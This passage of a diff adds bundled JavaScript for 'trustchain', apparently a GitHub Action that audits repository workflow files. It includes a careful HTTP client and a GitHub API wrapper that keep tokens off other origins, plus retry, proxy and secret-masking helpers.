+    const baseline = inputs.baseline === undefined ? null : loadBaseline(inputs.baseline, host.cwd);
+    const total = new Total();
+    const progress = host.progress("repositories", targets.length);
+    for (const target of targets) {
+        total.add(target, await checkTarget(target, inputs, host, request, check), baseline);
+        progress.advance();
+    }
+    progress.end();
+    if (request.writeBaseline !== undefined) {
+        (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.resolve)(host.cwd, request.writeBaseline), (0,lib/* writeBaseline */.B9)(total.findings, action_kit_lib/* VERSION */.xv), "--write-baseline");
+    }
+    return {
+        report: {
+            tool: { name: "trustchain", version: action_kit_lib/* VERSION */.xv, command: check.command },
+            findings: (0,lib/* sortFindings */.Tc)(total.findings),
+            errors: total.errors,
+            files: total.files,
+        },
+        context: { source: (path) => total.sources.get(path), rule: (id) => RULE_INFO.get(id) },
+        ...(targets.length === 1 && { root: targets[0].root }),
+        ...(request.diff && { diff: (0,lib/* unifiedDiff */.WH)(total.changed) }),
+        notes: total.notes,
+    };
+}
+async function checkTarget(target, inputs, host, request, check) {
+    const ruleIds = RULES.map((rule) => rule.id);
+    const config = await loadConfig(target.root, inputs.config, host.cwd, ruleIds);
+    const judgeWith = (edited) => judgeTarget(target, config, inputs.persona, check, edited);
+    const judgement = await judgeWith();
+    if (request.fix === "off" && !request.diff)
+        return { judgement, changed: [], notes: [] };
+    const fixed = await applyFixes(judgement, request.fix === "unsafe" ? "unsafe" : "safe", judgeWith);
+    if (request.diff)
+        return { judgement, changed: fixed.changed, notes: fixed.notes };
+    writeChanged(target.root, fixed.changed);
+    const count = fixed.changed.length;
+    const notes = [...fixed.notes, `${count} ${count === 1 ? "file" : "files"} changed by fixes`];
+    return { judgement: fixed.judgement, changed: fixed.changed, notes };
+}
+function judgeTarget({ root, only }, config, persona, { rules }, edited) {
+    return analyzeRepository(root, { rules, persona, config, only, ...(edited && { edited }) });
+}
+/** What all repositories of a run come to; their paths begin with what they were called. */
+class Total {
+    findings = [];
+    errors = [];
+    notes = [];
+    changed = [];
+    sources = new Map();
+    files = 0;
+    add({ root, prefix }, { judgement, changed, notes }, baseline) {
+        const findings = baseline ? (0,lib/* applyBaseline */.Qp)(judgement.findings, baseline) : judgement.findings;
+        const named = (path) => (prefix === "" ? path : `${prefix}/${path}`);
+        for (const finding of findings)
+            this.findings.push(prefix === "" ? finding : renamed(finding, named));
+        for (const error of judgement.errors)
+            this.errors.push({ ...error, path: named(error.path) });
+        for (const file of changed)
+            this.changed.push({ ...file, path: named(file.path) });
+        for (const [path, source] of judgement.sources)
+            this.sources.set(named(path), source);
+        this.notes.push(...notes.map((note) => (prefix === "" ? note : `${prefix}: ${note}`)));
+        if (judgement.files === 0)
+            this.notes.push(`${prefix || root}: there is no workflow, action or Dependabot file here`);
+        this.files += judgement.files;
+    }
+}
+function renamed(finding, named) {
+    const moved = (location) => ({ ...location, path: named(location.path) });
+    return {
+        ...finding,
+        location: moved(finding.location),
+        related: finding.related.map(({ message, location }) => ({ message, location: moved(location) })),
+        fix: finding.fix && {
+            ...finding.fix,
+            files: finding.fix.files.map((file) => ({ ...file, path: named(file.path) })),
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/index.js
+
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/index.js
+
+
+
+
+
+
+
+
+
+// EXTERNAL MODULE: ./actions/audit/lib/action.js
+var action = __nccwpck_require__(2601);
+;// CONCATENATED MODULE: ./actions/audit/lib/main.js
+
+
+
+/* harmony default export */ const main = (action/* action */.X.main(async (run) => {
+    const outcome = await staticCheck(run, { command: action/* action */.X.name, rules: RULES });
+    return { ...outcome, outputs: (0,lib/* countBySeverity */.Ot)(outcome.report?.findings ?? []) };
+}));
+
+
+/***/ }),
+
+/***/ 6416:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   c: () => (/* binding */ NO_PROGRESS)
+/* harmony export */ });
+const NO_PROGRESS = { advance() { }, end() { } };
+
+
+/***/ }),
+
+/***/ 9587:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  V0: () => (/* binding */ createHttp)
+});
+
+// UNUSED EXPORTS: jsonOf, textOf
+
+// EXTERNAL MODULE: ./packages/action-kit/lib/user-error.js
+var user_error = __nccwpck_require__(5561);
+// EXTERNAL MODULE: ./packages/action-kit/lib/version.js
+var version = __nccwpck_require__(3465);
+// EXTERNAL MODULE: ./packages/action-kit/lib/http/clock.js + 1 modules
+var http_clock = __nccwpck_require__(2668);
+// EXTERNAL MODULE: ./packages/action-kit/lib/system-error.js
+var system_error = __nccwpck_require__(9363);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/exchange.js
+
+
+/** The network failed before there was a whole answer; another try may do. */
+class NetworkTrouble extends Error {
+}
+/**
+ * Sends one request and reads the answer; a redirect is not followed.
+ *
+ * @throws NetworkTrouble when no whole answer came; UserError when it is larger than allowed
+ */
+async function exchange(fetch, { url, method, headers, body }, limits, doing) {
+    const watchdog = new Watchdog(limits.timeout, limits.remaining);
+    try {
+        const init = { method, headers, redirect: "manual", signal: watchdog.signal };
+        const response = await fetch(url, body === undefined ? init : { ...init, body });
+        const bytes = await readBody(response, limits.maxBytes, watchdog, doing);
+        return { status: response.status, url: url.href, headers: response.headers, body: bytes };
+    }
+    catch (error) {
+        if (error instanceof user_error/* UserError */.y)
+            throw error;
+        throw new NetworkTrouble(watchdog.barked ?? `${url.host}: ${networkReason(error)}`);
+    }
+    finally {
+        watchdog.stop();
+    }
+}
+/** Aborts what makes no progress. */
+class Watchdog {
+    timeout;
+    #abort = new AbortController();
+    #total;
+    #pause;
+    barked;
+    constructor(timeout, remaining) {
+        this.timeout = timeout;
+        this.#total = setTimeout(() => this.#bark("the time for all requests is used up"), remaining);
+        this.#pause = this.#watchPause();
+    }
+    get signal() {
+        return this.#abort.signal;
+    }
+    /** There was progress. */
+    feed() {
+        clearTimeout(this.#pause);
+        this.#pause = this.#watchPause();
+    }
+    stop() {
+        clearTimeout(this.#total);
+        clearTimeout(this.#pause);
+    }
+    #watchPause() {
+        return setTimeout(() => this.#bark(`nothing came for ${this.timeout / 1000} s`), this.timeout);
+    }
+    #bark(reason) {
+        this.barked = reason;
+        this.#abort.abort();
+    }
+}
+async function readBody(response, maxBytes, watchdog, doing) {
+    const pieces = [];
+    let size = 0;
+    watchdog.feed();
+    for await (const piece of response.body ?? []) {
+        watchdog.feed();
+        size += piece.byteLength;
+        // Leaving the loop cancels the stream, which closes the connection.
+        if (size > maxBytes) {
+            throw new user_error/* UserError */.y(doing, `the answer is larger than ${maxBytes} bytes`, "check the address that was asked");
+        }
+        pieces.push(piece);
+    }
+    const whole = new Uint8Array(size);
+    let at = 0;
+    for (const piece of pieces) {
+        whole.set(piece, at);
+        at += piece.byteLength;
+    }
+    return whole;
+}
+const REASONS = new Map([
+    ["ENOTFOUND", "the host is not known"],
+    ["EAI_AGAIN", "the host's name can't be looked up now"],
+    ["ECONNREFUSED", "it refuses the connection"],
+    ["ECONNRESET", "it closed the connection"],
+    ["UND_ERR_SOCKET", "it closed the connection"],
+    ["ETIMEDOUT", "the connection timed out"],
+    ["UND_ERR_CONNECT_TIMEOUT", "the connection timed out"],
+    ["ENETUNREACH", "the network can't be reached"],
+    ["CERT_HAS_EXPIRED", "its certificate has expired"],
+    ["DEPTH_ZERO_SELF_SIGNED_CERT", "its certificate is self-signed"],
+]);
+/** fetch hides what happened in the error's cause, and a proxy's refusal in the cause of that. */
+function networkReason(error) {
+    let cause = error;
+    for (let depth = 0; depth < 5; depth++)
+        cause = cause?.cause ?? cause;
+    return REASONS.get((0,system_error/* codeOf */.$N)(cause)) ?? (0,system_error/* messageOf */.bD)(cause);
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/parse-url.js
+/** The URL that a text is, or undefined. (`URL.parse` is younger than the oldest Node that we start on.) */
+function parseUrl(text, base) {
+    return URL.canParse(text, base?.href) ? new URL(text, base?.href) : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/redirect.js
+
+
+const REDIRECTS = new Set([301, 302, 303, 307, 308]);
+/** All that another origin gets to see: whatever else a caller sends may be a credential. */
+const HARMLESS = new Set(["accept", "accept-language", "content-type", "range", "user-agent"]);
+/**
+ * Where an answer sends a request, or undefined when it is no redirect.
+ *
+ * @throws UserError when it leads to an address that `requireSafe` refuses
+ * @see Fetch, "HTTP-redirect fetch": the method becomes GET as browsers do it
+ */
+function redirected(hop, status, location, doing) {
+    if (!REDIRECTS.has(status) || location === null)
+        return undefined;
+    const url = parseUrl(location, hop.url);
+    if (url === undefined)
+        throw new user_error/* UserError */.y(doing, `${hop.url.host} redirects to something that is no URL`, "report it there");
+    requireSafe(url, doing, isLoopback(hop.url));
+    const becomesGet = status === 303 ? hop.method !== "HEAD" : status < 303 && hop.method === "POST";
+    const headers = url.origin === hop.url.origin ? new Headers(hop.headers) : harmless(hop.headers);
+    if (!becomesGet)
+        return { url, method: hop.method, headers, body: hop.body };
+    headers.delete("content-type");
+    return { url, method: "GET", headers, body: undefined };
+}
+/**
+ * Refuses what would send a request in the clear: anything but https, or http to this machine.
+ *
+ * @param loopbackAllowed false for a redirect from elsewhere, which has no business on this machine
+ */
+function requireSafe(url, doing, loopbackAllowed = true) {
+    if (isLoopback(url) && !loopbackAllowed) {
+        throw new user_error/* UserError */.y(doing, "the server redirects to this machine", "check the address that it is asked for");
+    }
+    if (url.protocol === "https:" || (url.protocol === "http:" && isLoopback(url)))
+        return;
+    throw new user_error/* UserError */.y(doing, `${url.protocol}//${url.host} is not https`, "give an https address");
+}
+/** Is it this machine? (RFC 1122, section 3.2.1.3; RFC 4291, section 2.5.3; RFC 6761, section 6.3) */
+function isLoopback(url) {
+    return url.hostname === "localhost" || url.hostname === "[::1]" || /^127(\.\d{1,3}){3}$/.test(url.hostname);
+}
+function harmless(headers) {
+    return new Headers([...headers].filter(([name]) => HARMLESS.has(name)));
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/proxy-of.js
+
+/**
+ * The proxy to take for a https address, if any: `HTTPS_PROXY`, unless `NO_PROXY` names the host. Of the two spellings
+ * the lower case goes first, as in curl. This machine is never looked for behind a proxy.
+ */
+function proxyOf(url, env) {
+    const proxy = env.https_proxy || env.HTTPS_PROXY;
+    if (!proxy || isLoopback(url))
+        return undefined;
+    const exceptions = (env.no_proxy || env.NO_PROXY || "").toLowerCase().split(/[\s,]+/);
+    return exceptions.some((exception) => covers(exception, url)) ? undefined : proxy;
+}
+/** `*`, `example.com` and `.example.com` (the host and all below it), `*.example.com`, each with or without a port. */
+function covers(exception, url) {
+    if (exception === "*")
+        return true;
+    const [, name = "", port] = /^(?:\*?\.)?(.+?)(?::(\d+))?$/.exec(exception) ?? [];
+    if (name === "" || (port !== undefined && port !== (url.port || "443")))
+        return false;
+    return url.hostname === name || url.hostname.endsWith(`.${name}`);
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/retry.js
+/** How often a request is tried in all. */
+const TRIES = 3;
+/** The longest that one request waits between its tries, all together. */
+const LONGEST_WAIT = 60_000;
+const FIRST_PAUSE = 500;
+/** What GitHub asks to wait when a secondary limit says nothing else. */
+const SECONDARY_LIMIT_PAUSE = 60_000;
+const IDEMPOTENT = new Set(["GET", "HEAD", "OPTIONS", "PUT", "DELETE"]);
+const TRANSIENT = new Set([500, 502, 503, 504]);
+/** May a request be sent again when nobody knows whether it was carried out? (RFC 9110, section 9.2.2) */
+function isIdempotent(method) {
+    return IDEMPOTENT.has(method);
+}
+/** The pause after the `attempt`-th try (from 1): doubled each time, and between a half and all of that, so that clients spread. */
+function backOff(attempt, random) {
+    return Math.round(FIRST_PAUSE * 2 ** (attempt - 1) * (0.5 + random / 2));
+}
+/**
+ * Does an answer ask to come again later?
+ *
+ * @param body the answer's text, asked for only where headers don't tell
+ * @see RFC 9110, section 10.2.3 (Retry-After); GitHub, "Rate limits for the REST API"
+ */
+function refusalOf(status, headers, body, now) {
+    if (status === 429 || status === 403) {
+        const wait = retryAfter(headers, now) ?? limitReset(headers, now);
+        if (status === 429 || wait !== undefined)
+            return { limited: true, wait };
+        return /secondary rate limit/i.test(body()) ? { limited: true, wait: SECONDARY_LIMIT_PAUSE } : undefined;
+    }
+    return TRANSIENT.has(status) ? { limited: false, wait: retryAfter(headers, now) } : undefined;
+}
+/** Seconds or a date. */
+function retryAfter(headers, now) {
+    const value = headers.get("retry-after")?.trim() ?? "";
+    if (/^\d{1,9}$/.test(value))
+        return Number(value) * 1000;
+    const date = value === "" ? Number.NaN : Date.parse(value);
+    return Number.isNaN(date) ? undefined : Math.max(0, date - now);
+}
+/** GitHub's primary limit: nothing remains until a second since 1970. */
+function limitReset(headers, now) {
+    const reset = headers.get("x-ratelimit-reset") ?? "";
+    if (headers.get("x-ratelimit-remaining") !== "0" || !/^\d{1,12}$/.test(reset))
+        return undefined;
+    return Math.max(0, Number(reset) * 1000 - now);
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/client.js
+
+
+
+
+
+
+
+
+const REDIRECT_LIMIT = 5;
+/** Makes the client; nothing is opened before the first request. */
+function createHttp(options) {
+    const { clock = http_clock/* systemClock */.m, timeout = 30_000, maxBytes = 32 * 1024 * 1024 } = options;
+    const deadlineAt = clock.now() + (options.deadline ?? 600_000);
+    /** One try: a whole answer, or what stood in its way. */
+    async function attempt(request, first) {
+        let hop = first;
+        for (let followed = 0; followed <= REDIRECT_LIMIT; followed++) {
+            const remaining = deadlineAt - clock.now();
+            if (remaining <= 0)
+                throw tooLate(request.doing);
+            const fetch = await fetchFor(hop.url, options.env);
+            const limits = { timeout, remaining, maxBytes: request.maxBytes ?? maxBytes };
+            const answer = await exchange(fetch, hop, limits, request.doing);
+            const next = redirected(hop, answer.status, answer.headers.get("location"), request.doing);
+            if (!next)
+                return answer;
+            hop = next;
+        }
+        throw new user_error/* UserError */.y(request.doing, `${hop.url.host} redirects in a circle`, "check the address that was asked");
+    }
+    async function request(request) {
+        const hop = firstHop(request);
+        if (options.offline)
+            throw offlineError(request.doing, hop.url);
+        let waited = 0;
+        for (let tried = 1;; tried++) {
+            const result = await attempt(request, hop).catch(asTrouble);
+            const trouble = result instanceof NetworkTrouble ? fromNetwork(result) : fromAnswer(result, clock.now());
+            if (!trouble)
+                return result;
+            const again = trouble.limited || isIdempotent(hop.method);
+            if (!again || tried === TRIES)
+                throw gaveUp(request.doing, trouble, tried);
+            const pause = trouble.wait ?? backOff(tried, clock.random());
+            waited += pause;
+            if (waited > LONGEST_WAIT || clock.now() + pause >= deadlineAt) {
+                throw tooLong(request.doing, trouble, clock.now() + pause);
+            }
+            await clock.sleep(pause);
+        }
+    }
+    return { request };
+}
+/** The body of an answer as text; bytes that are no UTF-8 become U+FFFD. */
+function textOf(response) {
+    return new TextDecoder().decode(response.body);
+}
+/**
+ * The body of an answer as JSON.
+ *
+ * @throws UserError when it is none
+ */
+function jsonOf(response, doing) {
+    try {
+        return JSON.parse(textOf(response));
+    }
+    catch {
+        throw new UserError(doing, `${new URL(response.url).host} did not answer with JSON`, "check the address, or try again later");
+    }
+}
+function firstHop(request) {
+    const url = parseUrl(request.url);
+    if (url === undefined)
+        throw new user_error/* UserError */.y(request.doing, `\`${request.url}\` is no URL`, "give an https address");
+    requireSafe(url, request.doing);
+    const headers = new Headers({ "user-agent": `trustchain/${version/* VERSION */.x}`, ...request.headers });
+    return { url, method: (request.method ?? "GET").toUpperCase(), headers, body: request.body };
+}
+async function fetchFor(url, env) {
+    const proxy = proxyOf(url, env);
+    return proxy === undefined ? globalThis.fetch : (await Promise.all(/* import() */[__nccwpck_require__.e(752), __nccwpck_require__.e(10)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5010))).proxiedFetch(proxy);
+}
+function asTrouble(error) {
+    if (error instanceof NetworkTrouble)
+        return error;
+    throw error;
+}
+function fromNetwork(trouble) {
+    return { limited: false, wait: undefined, reason: trouble.message };
+}
+function fromAnswer(answer, now) {
+    const refusal = refusalOf(answer.status, answer.headers, () => textOf(answer), now);
+    if (!refusal)
+        return undefined;
+    const { host } = new URL(answer.url);
+    const reason = refusal.limited ? `${host} allows no more requests now` : `${host} answered ${answer.status}`;
+    return { ...refusal, reason };
+}
+function offlineError(doing, url) {
+    return new user_error/* UserError */.y(doing, `needs ${url.host}, and \`offline\` forbids every connection`, "leave `offline` out, or do without this");
+}
+function tooLate(doing) {
+    return new user_error/* UserError */.y(doing, "the time for all requests is used up", "try again, or ask for less at once");
+}
+function gaveUp(doing, trouble, tried) {
+    const times = tried === 1 ? "" : ` (tried ${tried} times)`;
+    return new user_error/* UserError */.y(doing, `${trouble.reason}${times}`, "check the network, or try again later");
+}
+function tooLong(doing, trouble, until) {
+    const time = new Date(Math.min(until, 8.64e15)).toISOString().slice(0, 19);
+    const remedy = trouble.limited
+        ? `try again after ${time}Z, or give a token with a higher limit`
+        : `try again after ${time}Z`;
+    return new user_error/* UserError */.y(doing, trouble.reason, remedy);
+}
+
+
+/***/ }),
+
+/***/ 2668:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  m: () => (/* binding */ systemClock)
+});
+
+;// CONCATENATED MODULE: external "node:timers/promises"
+const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:timers/promises");
+;// CONCATENATED MODULE: ./packages/action-kit/lib/http/clock.js
+
+const systemClock = {
+    now: Date.now,
+    sleep: async (milliseconds) => void (await (0,promises_namespaceObject.setTimeout)(milliseconds)),
+    random: Math.random,
+};
+
+
+/***/ }),
+
+/***/ 8307:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   C: () => (/* binding */ createGitHub),
+/* harmony export */   F: () => (/* binding */ HttpStatusError)
+/* harmony export */ });
+/* harmony import */ var _user_error_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5561);
+/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(3465);
+
+
+/** GitHub answered, but with a status that is no success. */
+class HttpStatusError extends _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y {
+    status;
+    constructor(place, reason, remedy, status) {
+        super(place, reason, remedy);
+        this.status = status;
+    }
+}
+/** Makes the client; `@octokit/rest` is loaded now and by nothing else. */
+async function createGitHub({ http, token, env }) {
+    const { Octokit } = await __nccwpck_require__.e(/* import() */ 891).then(__nccwpck_require__.bind(__nccwpck_require__, 891));
+    const baseUrl = (env.GITHUB_API_URL || "https://api.github.com").replace(/\/+$/, "");
+    const octokit = new Octokit({
+        baseUrl,
+        userAgent: `trustchain/${_version_js__WEBPACK_IMPORTED_MODULE_1__/* .VERSION */ .x}`,
+        log: { debug() { }, info() { }, warn() { }, error() { } },
+        request: { fetch: fetchThrough(http, new URL(baseUrl).origin) },
+        ...(token ? { auth: token } : {}),
+    });
+    return {
+        async ask(doing, call) {
+            try {
+                return (await call(octokit.rest)).data;
+            }
+            catch (error) {
+                throw named(error, doing, token !== undefined);
+            }
+        },
+    };
+}
+/** Octokit's way to the network: ours. The token stays with GitHub, wherever a `link` header points. */
+function fetchThrough(http, origin) {
+    return async (url, { method, headers, body }) => {
+        const target = new URL(url);
+        const { authorization, ...others } = headers;
+        const sent = target.origin === origin && authorization !== undefined ? { ...others, authorization } : others;
+        const doing = `${method} ${target.pathname}`;
+        const answer = await http.request({ doing, url, method, headers: sent, ...(body === undefined ? {} : { body }) });
+        // These describe the bytes on the wire, which are unpacked by now; a Response with such a status may hold no body.
+        const plain = new Headers(answer.headers);
+        plain.delete("content-encoding");
+        plain.delete("content-length");
+        const empty = [204, 205, 304].includes(answer.status);
+        return new Response(empty ? null : answer.body, { status: answer.status, headers: plain });
+    };
+}
+/** Octokit wraps what our client throws; other failures are answers. */
+function named(error, doing, withToken) {
+    if (!(error instanceof Error))
+        return error;
+    if (error.cause instanceof _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y)
+        return new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, error.cause.reason, error.cause.remedy);
+    const status = error.status;
+    if (typeof status !== "number")
+        return error;
+    return new HttpStatusError(doing, `GitHub answered ${status} (${answerOf(error)})`, remedyFor(status, withToken), status);
+}
+/** Octokit appends the documentation's address to GitHub's message. */
+function answerOf(error) {
+    const [message = ""] = error.message.split(" - http");
+    return message.slice(0, 300);
+}
+function remedyFor(status, withToken) {
+    if (status === 401)
+        return "give a valid token";
+    if (status === 403)
+        return "give the token the permission for it";
+    if (status === 404 && !withToken)
+        return "check the name, or give a token that may see it";
+    if (status === 404)
+        return "check the name, and that the token may see it";
+    return "check the request, or try again later";
+}
+
+
+/***/ }),
+
+/***/ 3978:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  yo: () => (/* reexport */ user_error/* UserError */.y),
+  xv: () => (/* reexport */ version/* VERSION */.x),
+  sw: () => (/* reexport */ checkInputs),
+  n2: () => (/* reexport */ checkOutputs),
+  QP: () => (/* reexport */ defineAction),
+  au: () => (/* reexport */ didYouMean),
+  WE: () => (/* reexport */ system_error/* explain */.WE),
+  bD: () => (/* reexport */ system_error/* messageOf */.bD),
+  Tf: () => (/* reexport */ runOnRunner),
+  tG: () => (/* reexport */ write_file_whole_writeFileWhole)
+});
+
+// UNUSED EXPORTS: HttpStatusError, NOTHING_ASKED, NO_PROGRESS, REPORT_FORMATS, alternatives, boolean, choice, codeOf, countFailing, createGitHub, createHttp, describeError, describeReportError, duration, editDistance, exitStatusOf, failOn, integer, jsonOf, list, memoryHost, nearest, oneLine, parseInputs, path, placeOfInput, quote, redact, requireFolderOf, runInTerminal, runOnHost, secret, systemClock, terminalHost, text, textOf, writeResult
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/input.js
+/** How messages call an input. */
+function placeOfInput(name, place) {
+    return place === "terminal" ? `--${name}` : `input ${name}`;
+}
+/**
+ * Reads all inputs of an action.
+ *
+ * @returns an object without a prototype: an input may have any name
+ * @throws UserError for the first input that can't be read, in the order of the declaration
+ */
+function parseInputs(inputs, source) {
+    const values = Object.create(null);
+    for (const [name, input] of Object.entries(inputs)) {
+        values[name] = input.read(source.input(name), placeOfInput(name, source.place));
+    }
+    return values;
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/action.js
+
+/** Declares an action: the one place that says its inputs, outputs and rights. */
+function defineAction(declaration) {
+    return {
+        ...declaration,
+        main: (run) => ({
+            async start(host, request) {
+                maskSecrets(declaration.inputs, host);
+                const inputs = parseInputs(declaration.inputs, host);
+                return { outcome: await run({ inputs, host, request }), settings: settingsOf(inputs) };
+            },
+        }),
+    };
+}
+/** Before anything is read, so that no message about another input can show one. */
+function maskSecrets(inputs, host) {
+    for (const [name, input] of Object.entries(inputs)) {
+        if (input.kind !== "secret")
+            continue;
+        for (const { text } of host.input(name))
+            if (text !== "")
+                host.mask(text);
+    }
+}
+/** `checkInputs` types these inputs; an action that has none of them fails on nothing and sends nothing. */
+function settingsOf(inputs) {
+    const token = inputs["github-token"];
+    return {
+        failOn: inputs["fail-on"] ?? "never",
+        offline: inputs.offline === true,
+        uploadSarif: inputs["upload-sarif"] === true,
+        token: typeof token === "string" ? token : undefined,
+    };
+}
+
+// EXTERNAL MODULE: ./packages/action-kit/lib/system-error.js
+var system_error = __nccwpck_require__(9363);
+// EXTERNAL MODULE: ./packages/action-kit/lib/user-error.js
+var user_error = __nccwpck_require__(5561);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/describe-error.js
+
+
+const DEFECT = "this is a defect of trustchain: please report it with this line (TRUSTCHAIN_DEBUG=1 adds where it happened)";
+/**
+ * An error as the lines that a user reads, without `error:`. One line, and the stack behind it where `debug` asks for it.
+ * What is no `UserError` is our own mistake and says so.
+ */
+function describe_error_describeError(error, debug) {
+    const known = asUserError(error);
+    const line = known ? known.message : `trustchain: ${(0,system_error/* messageOf */.bD)(error)}: ${DEFECT}`;
+    if (!debug)
+        return [line];
+    const stack = error?.stack ?? "";
+    return [line, ...stack.split("\n").slice(1)];
+}
+/** An entry of a report's `errors` as such a line. */
+function describe_error_describeReportError(error) {
+    const place = `${error.path}:${error.line}`;
+    return error.rule === null
+        ? `${place}: ${error.message}`
+        : `${place}: rule ${error.rule}: ${error.message}: ${DEFECT}`;
+}
+/** The packages below this one can't throw a `UserError`: theirs has `file`, `line`, `reason` and `remedy`. */
+function asUserError(error) {
+    if (error instanceof user_error/* UserError */.y)
+        return error;
+    if (!(error instanceof Error) || error.name !== "FormatError")
+        return undefined;
+    const { file, line, reason, remedy } = error;
+    if (file === undefined || reason === undefined || remedy === undefined)
+        return undefined;
+    return new user_error/* UserError */.y(line === undefined ? file : `${file}:${line}`, reason, remedy);
+}
+
+// EXTERNAL MODULE: ./packages/action-kit/lib/host/host.js
+var host = __nccwpck_require__(6416);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/host/memory-host.js
+
+
+/** @param inputs the values by name; several for a repeated option */
+function memoryHost(inputs = {}, options = {}) {
+    const given = new Map(Object.entries(inputs).map(([name, value]) => [name, [value].flat().map(asGiven)]));
+    const secrets = new Set();
+    const host = {
+        place: options.place ?? "terminal",
+        cwd: options.cwd ?? ".",
+        env: options.env ?? {},
+        outputs: new Map(),
+        notes: [],
+        summaries: [],
+        lines: [],
+        errors: [],
+        secrets,
+        input: (name) => given.get(name) ?? [],
+        mask: (secret) => void secrets.add(secret),
+        setOutput: (name, value) => void host.outputs.set(name, value),
+        annotate: (note) => void host.notes.push(note),
+        summarize: async (markdown) => void host.summaries.push(markdown),
+        progress: () => NO_PROGRESS,
+        log: (line) => void host.lines.push(redact(line, secrets)),
+        error: (line) => void host.errors.push(redact(line, secrets)),
+    };
+    return host;
+}
+function asGiven(text) {
+    return { text, whole: false };
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/host/output-stream.js
+
+
+/** The reader went away (`| head`), or an earlier write found that out. */
+const CLOSED = new Set(["EPIPE", "ERR_STREAM_DESTROYED", "ERR_STREAM_WRITE_AFTER_END"]);
+/**
+ * Writes a result and waits until the system has taken all of it, so that the process may end afterwards.
+ * A reader that went away is no error: it has seen what it wanted.
+ *
+ * @throws UserError when it can't be written, for example to a full device
+ */
+function output_stream_writeResult(stream, text) {
+    return new Promise((resolve, reject) => {
+        const settle = (error) => {
+            if (!error || CLOSED.has(codeOf(error)))
+                resolve();
+            else
+                reject(new UserError("standard output", explain(error), "free space or redirect the output elsewhere"));
+        };
+        stream.on("error", settle);
+        try {
+            stream.write(text, settle);
+        }
+        catch (error) {
+            settle(error);
+        }
+    });
+}
+
+// EXTERNAL MODULE: ./packages/action-kit/lib/one-line.js
+var one_line = __nccwpck_require__(9316);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/host/terminal-host.js
+
+
+
+
+/** The host of the command line: inputs are options, everything said goes to stderr; outputs, notes and summaries are for runners only. */
+function terminalHost(options) {
+    const { given, stderr, quiet } = options;
+    const secrets = new Set();
+    // Nothing can be done about a stderr that is closed or full, and without a listener it would end the process.
+    stderr.on("error", () => { });
+    const say = (line) => {
+        try {
+            stderr.write(`${oneLine(redact(line, secrets))}\n`);
+        }
+        catch {
+            // The same for a device that refuses at once.
+        }
+    };
+    return {
+        place: "terminal",
+        cwd: options.cwd,
+        env: options.env,
+        input: (name) => given.get(name) ?? [],
+        mask: (secret) => void secrets.add(secret),
+        setOutput() { },
+        annotate() { },
+        async summarize() { },
+        progress(label, total) {
+            const visible = options.progress && !quiet && stderr.isTTY === true;
+            return visible ? progressBar(label, total, stderr, performance) : NO_PROGRESS;
+        },
+        log(line) {
+            if (!quiet)
+                say(line);
+        },
+        error: (line) => say(`error: ${line}`),
+    };
+}
+
+// EXTERNAL MODULE: ./packages/action-kit/lib/http/client.js + 5 modules
+var client = __nccwpck_require__(9587);
+// EXTERNAL MODULE: ./packages/action-kit/lib/http/clock.js + 1 modules
+var clock = __nccwpck_require__(2668);
+// EXTERNAL MODULE: ./packages/action-kit/lib/http/github.js
+var github = __nccwpck_require__(8307);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/nearest.js
+/** Longer words are nobody's typing error, and comparing them would cost the product of their lengths. */
+const LONGEST = 64;
+/**
+ * The candidate that `word` was most likely meant to be, or undefined when none is close: at most one edit for each
+ * three characters of the word (at least one). Case does not count. Of equally near candidates the first is taken.
+ */
+function nearest(word, candidates) {
+    if (word.length > LONGEST)
+        return undefined;
+    const wanted = word.toLowerCase();
+    let best;
+    let bestDistance = Math.max(1, Math.floor(word.length / 3)) + 1;
+    for (const candidate of candidates) {
+        if (candidate.length > LONGEST)
+            continue;
+        const distance = editDistance(wanted, candidate.toLowerCase());
+        if (distance < bestDistance) {
+            best = candidate;
+            bestDistance = distance;
+        }
+    }
+    return best;
+}
+/** ` (did you mean `x`?)`, or nothing: the tail of a message about an unknown word. */
+function didYouMean(word, candidates, prefix = "") {
+    const candidate = nearest(word, candidates);
+    return candidate === undefined ? "" : ` (did you mean \`${prefix}${candidate}\`?)`;
+}
+/**
+ * Damerau–Levenshtein distance in its restricted form (optimal string alignment): insertions, deletions, substitutions
+ * and swaps of neighbours, no part edited twice.
+ */
